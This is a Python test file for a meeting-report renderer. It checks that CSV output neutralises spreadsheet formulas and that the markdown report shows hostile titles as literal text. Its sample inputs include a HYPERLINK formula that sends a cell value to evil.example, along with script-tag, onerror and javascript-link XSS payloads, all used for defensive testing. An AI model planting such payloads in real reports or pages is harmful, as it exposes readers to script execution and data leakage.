"""Hostile text from the log in the final report and the tally CSV: shown as written, never a formula, HTML or link.

Titles, company names and item ids come from meeting administration's events: trusted, but a publisher's
mistake or an attacker's event must not run in the spreadsheet or browser that opens a report.
"""

from __future__ import annotations

import csv
import html
import io

import msgspec
import pytest
from markdown_it import MarkdownIt

from projections.report import final_report, render_csv, render_markdown, spreadsheet_safe
from services.read.renderings import tally_csv
from tests.factories import small_meeting

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "@SUM(A1:A9)", "+1+2", "-2+3", "\tx", "\rx"]
MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/t.png)",
    "**bold** _em_ `code`",
    "&lt;b&gt; &#60;i&#62;",
    "# heading",
    "- item",
    "a | b",
    "back\\slash",
]


def hostile_report(title: str, item_id: str = "3") -> dict:
    spec = small_meeting()
    items = [msgspec.structs.replace(i, title=title, id=item_id) if i.id == "3" else i for i in spec.items]
    return final_report(small_meeting(items=items, company=title, title=title), 9333, {}, [], 42, "sha256:" + "ab" * 32)


def csv_row(*cells: object) -> str:
    """One row as the renderers' csv.writer writes it."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_text_cell_that_starts_like_a_formula_gets_a_leading_quote_in_the_report_and_the_tally(text):
    report = render_csv(hostile_report(text, item_id=text))
    assert csv_row("'" + text, "'" + text, 0, 0, 0, "", "", "", 0, "tie") in report  # item id and title
    assert csv_row(text, text, 0, 0, 0, "", "", "", 0, "tie") not in report
    tally = tally_csv({"items": {text: {"for": 5, "against": -3, "outcome": "-" + text}}})
    # Numbers, negative ones too, are never changed; text cells are.
    assert tally.endswith("\n" + csv_row("'" + text, 5, -3, "'-" + text).rstrip("\n"))


def test_numbers_and_ordinary_text_pass_unchanged_through_the_csv_guard():
    assert [spreadsheet_safe(v) for v in (-5, 0, 7, "", "Plan", "1.1", "a=b")] == [-5, 0, 7, "", "Plan", "1.1", "a=b"]


@pytest.mark.parametrize("text", MARKUP)
def test_the_markdown_report_renders_hostile_titles_and_names_as_literal_text(text):
    # Rendered as CommonMark does (raw HTML allowed), the report of a hostile title is the report of a plain
    # one with the title's text in its place, as written: no element, link or emphasis comes from it.
    markdown = MarkdownIt("commonmark").enable("table")
    hostile = markdown.render(render_markdown(hostile_report(text)))
    plain = markdown.render(render_markdown(hostile_report("PLAIN")))
    literal = html.escape(text, quote=False)
    assert hostile.count(literal) == 3, hostile  # company and title in the meeting line, the item's title
    assert hostile.replace(literal, "PLAIN") == plain


def test_a_meeting_id_with_backticks_stays_one_code_span():
    spec = small_meeting(meeting_id="a`b``c")
    markdown = render_markdown(final_report(spec, 9333, {}, [], 42, "sha256:" + "ab" * 32))
    assert "(```a`b``c```)" in markdown
